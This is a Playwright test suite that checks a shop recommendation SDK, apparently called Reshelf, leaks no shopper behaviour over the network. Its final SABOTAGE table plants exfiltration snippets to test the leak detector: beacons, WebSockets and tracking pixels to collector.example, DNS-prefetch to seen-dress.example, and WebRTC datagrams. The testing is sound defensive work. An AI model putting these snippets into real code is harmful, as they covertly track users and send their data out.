import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { journalOf, ledgerStore, plantJournal } from '../support/contributing.ts';
import { productPath, tagWith } from '../support/html.ts';
import { listenAsAggregators } from '../support/listening-aggregators.ts';
import { inOneLine, isSdkFile, leaks, type Recording, record } from '../support/recorder.ts';
import { expect, pageAt, test, workerWith } from '../support/shop.ts';

/** Learning together is set up in this shop: without a grant of its own nothing of it may be heard of. */
const shop = (path: string) =>
  pageAt(path, { tag: tagWith('data-reshelf-tasks="/reshelf/tasks.json" data-reshelf-region="eu"') });
const shopWithout = (path: string) => pageAt(path, { tag: '' });

async function visit(page: Page, address: string): Promise<void> {
  await page.goto(address);
  await page.evaluate(() => window.reshelf?.ready);
}

/** Does nothing on a page without Reshelf. */
async function allow(page: Page, others: { readonly contribute?: true } = {}): Promise<void> {
  await page.evaluate(async (given) => {
    const reshelf: typeof window.reshelf | undefined = window.reshelf;
    await reshelf?.consent.set({ personalize: true, ...given }, { source: 'api', noticeId: 'test' });
    await reshelf?.data({ kind: 'log' }); // its file loads half a second later, if the page still stands: here in any case
  }, others);
}

/** All that a shopper and a shop's code can do; the same walk through a shop with and without Reshelf. */
async function longSession(page: Page, origin: string): Promise<void> {
  const go = (path: string) => visit(page, `${origin}${path}`);
  await go('/');
  await allow(page);
  for (const id of ['dress-blue', 'dress-green', 'shirt-red', 'jacket-black', 'dress-blue']) {
    await go(productPath(id));
    await page.getByLabel('Size').selectOption({ index: 1 });
    await go('/');
  }
  await go('/search?q=blue+linen&utm_source=letter');
  await go('/p/jacket-red?from=list');
  await page.getByLabel('Size').selectOption({ index: 2 });
  await page.getByRole('button', { name: 'Add to cart' }).click();
  await page.waitForURL('**/cart/add');
  await page.evaluate(() => window.reshelf?.ready);
  await page.getByRole('link', { name: 'Order' }).click();
  await page.waitForURL('**/order');
  await page.evaluate(() => window.reshelf?.ready);
  await go('/');
  await page.mouse.wheel(0, 600);
  await page.locator('ul.products a[href*="skirt-black"]').click();
  await page.waitForURL('**/p/skirt-black?from=list');
  await page.goBack();
  await page.evaluate(async () => {
    const reshelf: typeof window.reshelf | undefined = window.reshelf;
    if (reshelf === undefined) return;
    await reshelf.ready;
    await reshelf.signal({
      kind: 'view',
      item: { id: 'dress-red', title: 'red linen dress' },
      dwellMs: 9000,
    });
    await reshelf.signal({ kind: 'search', query: 'secret wish' });
    await reshelf.rank([
      { id: 'dress-red', position: 0 },
      { id: 'dress-blue', position: 1 },
    ]);
    reshelf.lists();
    await reshelf.explain('dress-blue');
    const green = { facet: 'colour', value: 'green' } as const;
    await reshelf.data({ kind: 'interest', interest: green, act: 'more' });
    for (const section of ['now', 'learned', 'activity', 'why', 'shared', 'proof', 'take'] as const) {
      await reshelf.privacy.open(section); // what it shows is behaviour, and none of it may leave
      await new Promise((done) => setTimeout(done, 100));
    }
    reshelf.privacy.close();
    await reshelf.data({ kind: 'export', origin: location.origin, isPortable: true });
    await reshelf.consent.pause();
    await reshelf.consent.resume();
    reshelf.undo();
    await reshelf.forget('all');
    await reshelf.signal({ kind: 'cart', itemId: 'dress-white', size: 'M' });
  });
  await go('/p/skirt-white');
  await page.evaluate(() => window.reshelf?.consent.withdraw());
  await go('/');
  await allow(page);
  await go('/p/dress-white'); // and is closed while it is being looked at
}

test('in a long session, past its closing, a shop with Reshelf sends what it sends without, and loads its own files', async () => {
  test.setTimeout(120_000);
  const without = await record({ pages: shopWithout }, longSession);
  const recording = await record({ pages: shop }, longSession);
  expect(leaks(recording, without)).toEqual([]);

  const count = (name: string) =>
    recording.sent.filter(({ url }) => url === `http://shop/reshelf/${name}`).length;
  expect(recording.sent.length - recording.sent.filter(isSdkFile).length).toBe(without.sent.length);
  expect(without.sent.length).toBeGreaterThan(18);
  expect(count('reshelf.js')).toBe(without.sent.length); // once a page
  expect(count('reshelf.worker.js')).toBeGreaterThan(15); // once a page, while it is granted
  for (const name of ['ask', 'panel', 'desk', 'text.en'])
    expect(count(`reshelf.${name}.js`), name).toBeGreaterThan(0);
});

test('two different histories make identical requests on the same pages', async () => {
  const pages = ['/', '/p/dress-green', '/search?q=linen', '/', '/p/shirt-red', '/'];
  async function recordAfter(history: readonly string[]): Promise<{ recording: Recording; order: string[] }> {
    let order: string[] = [];
    const recording = await record({ pages: shop }, async (page, origin) => {
      await visit(page, `${origin}/`);
      await allow(page);
      await page.evaluate(async (ids) => {
        for (const id of ids) {
          const [category = '', colour = ''] = id.split('-');
          const item = { id, category, colour, title: `${colour} linen ${category}` };
          await window.reshelf.signal({ kind: 'cart', item, size: 'M' });
          await window.reshelf.signal({ kind: 'search', query: item.title });
        }
      }, history);
      for (const path of pages) {
        await visit(page, `${origin}${path}`);
        await page.waitForLoadState('networkidle'); // a page left earlier has not asked for all it asks for
      }
      order = await page
        .locator('ul.products > li a')
        .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).pathname));
    });
    return { recording, order };
  }
  const one = await recordAfter(['dress-blue']);
  const other = await recordAfter(Array.from({ length: 12 }, () => ['skirt-white', 'jacket-white']).flat());
  expect(one.order, 'the histories must matter').not.toEqual(other.order);

  expect(one.recording.elsewhere).toEqual([]);
  expect(other.recording.elsewhere).toEqual([]);
  expect(other.recording.sent.length).toBeGreaterThan(pages.length * 3); // page, script, worker; every header counts
  expect(other.recording.sent.map(inOneLine).sort()).toEqual(one.recording.sent.map(inOneLine).sort());
});

test('with a grant to contribute, what leaves is one report of one size to the listed hosts, whatever the history', async () => {
  test.setTimeout(240_000);
  const DAY = 86_400_000;
  const aggregators = await listenAsAggregators();
  /** @param lists of which something was chosen; none is a device without any data */
  async function contributeAfter(lists: number) {
    aggregators.heard.length = 0;
    let numbers: number[] = [];
    const files = { 'tasks.json': JSON.stringify([aggregators.task]) };
    const { sent, elsewhere, cookies } = await record({ pages: shop, files }, async (page, origin) => {
      const at = (days: number) => page.clock.setFixedTime(new Date(Date.now() + days * DAY));
      const slow = { timeout: 60_000 };
      await at(-40); // a new ledger waits a month
      await visit(page, `${origin}/`);
      await allow(page, { contribute: true });
      await expect.poll(() => aggregators.heard.length, slow).toBe(1); // is there a model?
      await plantJournal(page, journalOf(lists));
      await at(0);
      await visit(page, `${origin}/p/dress-green`);
      const rows = () => ledgerStore<{ state: string; numbers: number[] }>(page, 'rows');
      await expect.poll(async () => (await rows())[0]?.state, slow).toBe('sent');
      numbers = (await rows())[0]?.numbers ?? [];
      await expect.poll(() => aggregators.heard.length, slow).toBe(6);
      await visit(page, `${origin}/`); // nothing more is due
      await page.waitForTimeout(1500);
    });
    return { sent: sent.map(inOneLine).sort(), elsewhere, cookies, numbers, heard: [...aggregators.heard] };
  }
  try {
    const none = await contributeAfter(0);
    const some = await contributeAfter(3);
    const many = await contributeAfter(30);
    expect(none.numbers.every((number) => number === 0)).toBe(true);
    expect(some.numbers, 'the histories must matter').not.toEqual(many.numbers);
    expect(some.numbers.some((number) => number !== 0)).toBe(true);

    const { task } = aggregators;
    expect(none.heard.map(({ method, path, sizeBytes }) => `${method} ${path} ${sizeBytes}`)).toEqual([
      `GET /collector/tasks/${task.id}/model 0`,
      ...['leader', 'helper'].map((role) => `GET /${role}/hpke_config?task_id=${task.id} 0`),
      `OPTIONS /leader/tasks/${task.id}/reports 0`,
      `PUT /leader/tasks/${task.id}/reports 5862`,
      `GET /collector/tasks/${task.id}/model 0`,
    ]);
    for (const { heard } of [none, some, many])
      for (const { headers } of heard)
        expect(headers.join(), 'no cookie, no page that was looked at').not.toMatch(
          /cookie|referer: http.*dress/,
        );
    const inOrder = ({ heard }: typeof none) => heard.map((one) => JSON.stringify(one)).sort(); // both keys are asked for at once
    expect(inOrder(some)).toEqual(inOrder(none));
    expect(inOrder(many)).toEqual(inOrder(none));
    expect(some.sent, 'the trainer loads for an empty device, too').toEqual(none.sent);
    expect(many.sent).toEqual(some.sent);
    for (const { elsewhere, cookies } of [none, some, many]) {
      expect(cookies).toEqual([]);
      for (const one of elsewhere) expect(one).toContain(aggregators.origin.replace('http://', ''));
    }
  } finally {
    await aggregators.close();
  }
});

/** Allows no connection at all; the browser itself reports what it had to block, in pages and in workers. */
const STRICT = {
  'content-security-policy':
    "default-src 'none'; script-src 'self'; worker-src 'self'; style-src 'unsafe-inline'; img-src data:; connect-src 'none'; report-uri /blocked",
};
const blocked = ({ sent }: Recording): string[] =>
  sent.filter(({ url }) => url === 'http://shop/blocked').map(({ body }) => body);

test('under connect-src ’none’, for the worker too, signals are kept, the list is put in order and nothing is blocked', async () => {
  const errors: string[] = [];
  let reordered = 0;
  let order: string[] = [];
  const listed: string[] = [];
  const recording = await record({ pages: shop, headers: STRICT }, async (page, origin) => {
    page.on('pageerror', (error) => errors.push(String(error)));
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') errors.push(message.text()); // what CSP blocks too
    });
    const read = () =>
      page
        .locator('ul.products > li a')
        .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).pathname));
    await page.addInitScript(() => {
      window.heard = [];
      document.addEventListener('reshelf:reordered', () =>
        window.heard.push({ type: 'reordered', detail: null }),
      );
    });
    await visit(page, `${origin}/`);
    listed.push(...(await read()));
    await allow(page);
    for (const id of ['skirt-white', 'jacket-white', 'skirt-white']) {
      await visit(page, `${origin}${productPath(id)}`);
      const isKept = await page.evaluate(() =>
        window.reshelf.signal({ kind: 'view', itemId: 'skirt-white', dwellMs: 20_000 }),
      );
      expect(isKept).toBe(true);
    }
    await visit(page, `${origin}/`);
    await page.waitForFunction(() => window.heard.length > 0);
    reordered = await page.evaluate(() => window.heard.length);
    order = await read();
    await page.evaluate(() => window.reshelf.forget('all'));
    await page.evaluate(() => window.reshelf.consent.withdraw());
  });
  expect(reordered).toBe(1);
  expect(order).not.toEqual(listed);
  expect([...order].sort()).toEqual([...listed].sort());
  expect(errors).toEqual([]);
  expect(blocked(recording)).toEqual([]);
});

/** The built script with a line after it. */
const scriptWith = (after: string): Record<string, string> => ({
  'reshelf.js': `${readFileSync('dist/reshelf.js', 'utf8').replace(/\/\/# sourceMappingURL.*/, '')}\n${after}`,
});
/** The built worker, doing something else with every message after which it has something to tell. */
const workerDoing = (work: string): Record<string, string> => ({
  'reshelf.worker.js': workerWith(
    '',
    `addEventListener('message', ({ data }) => { if (String(data.path) === 'record') { ${work} } });`,
  ),
});
const linked = (rel: string, href: string) =>
  `{ const link = document.createElement('link'); link.rel = '${rel}'; link.href = '${href}'; document.head.append(link); }`;

/** Test of the tests: what must be caught, and a word of how it must be told. */
const SABOTAGE: Readonly<Record<string, readonly [files: Record<string, string>, told: RegExp]>> = {
  'a request of the worker': [
    workerDoing(`fetch('/collect', { method: 'POST', body: 'behaviour', keepalive: true }).catch(() => {});`),
    /POST.*collect.*behaviour/,
  ],
  'a WebSocket of the worker': [
    workerDoing(`new WebSocket('ws://' + location.host + '/socket');`),
    /socket.*websocket/,
  ],
  'a WebSocket to somebody else': [
    workerDoing(`new WebSocket('ws://collector.example/');`),
    /ws:\/\/collector\.example/,
  ],
  'a beacon when a page is left': [
    scriptWith(`addEventListener('pagehide', () => navigator.sendBeacon('/collect', 'behaviour'));`),
    /POST.*collect.*behaviour/,
  ],
  'a beacon at the closing of the last page only': [
    scriptWith(
      `if (location.pathname === '/p/dress-blue') addEventListener('pagehide', () => navigator.sendBeacon('/collect', 'late'));`,
    ),
    /POST.*collect.*late/,
  ],
  'a request for a page of the shop that the shopper did not make': [
    scriptWith(`fetch('/');`),
    /not the page's own/,
  ],
  'a query string on a page of the shop': [
    workerDoing(`fetch('/?seen=dress-blue').catch(() => {});`),
    /seen=dress-blue/,
  ],
  'a query string on a file of the SDK': [
    scriptWith(`fetch('/reshelf/reshelf.worker.js?seen=dress-blue');`),
    /seen=dress-blue/,
  ],
  'a header on a file of the SDK': [
    workerDoing(`fetch('/reshelf/reshelf.js', { headers: { 'x-seen': 'dress-blue' } }).catch(() => {});`),
    /with an SDK file.*x-seen/,
  ],
  'a cookie': [scriptWith(`document.cookie = 'seen=dress-blue';`), /^cookie: seen/],
  'a picture of somebody else': [
    scriptWith(`new Image().src = 'http://collector.example/pixel.gif?seen=dress-blue';`),
    /collector\.example\/pixel/,
  ],
  'a request to a host that the browser itself talks to': [
    scriptWith(`fetch('https://update.googleapis.com/collect', { mode: 'no-cors' }).catch(() => {});`),
    /update\.googleapis\.com\/collect/,
  ],
  'a prefetch that names a product': [
    scriptWith(linked('prefetch', '/collect?seen=dress-blue')),
    /collect\?seen/,
  ],
  'a preconnect to somebody else': [
    scriptWith(linked('preconnect', 'http://seen-dress.example')),
    /seen-dress/,
  ],
  'a DNS look-up of somebody else': [
    scriptWith(linked('dns-prefetch', '//seen-dress.example')),
    /seen-dress/,
  ],
  'a datagram of WebRTC': [
    scriptWith(
      `{ const rtc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:45678' }] }); rtc.createDataChannel('x');
        rtc.createOffer().then((offer) => rtc.setLocalDescription(offer)); }`,
    ),
    /datagram/,
  ],
};

test('the browser’s report catches a connection that the worker only tried to make', async () => {
  const files = workerDoing(`fetch('/collect').catch(() => {});`);
  const recording = await record({ pages: shop, files, headers: STRICT }, shortSession);
  expect(recording.sent.filter(({ url }) => url.includes('collect'))).toEqual([]);
  expect(blocked(recording).join()).toContain('connect-src');
});

async function shortSession(page: Page, origin: string): Promise<void> {
  await visit(page, `${origin}/`);
  await allow(page);
  for (const path of ['/p/dress-green', '/', '/p/dress-blue']) await visit(page, `${origin}${path}`);
  await page.evaluate(() => window.reshelf?.signal({ kind: 'view', itemId: 'dress-blue', dwellMs: 9000 }));
}
let withoutReshelf: Promise<Recording> | undefined;

for (const [what, [files, told]] of Object.entries(SABOTAGE)) {
  test(`the recorder catches ${what}`, async () => {
    withoutReshelf ??= record({ pages: shopWithout }, shortSession);
    const without = await withoutReshelf;
    const found = leaks(await record({ pages: shop, files }, shortSession), without);
    expect(found.filter((line) => told.test(line))).not.toEqual([]);
  });
}
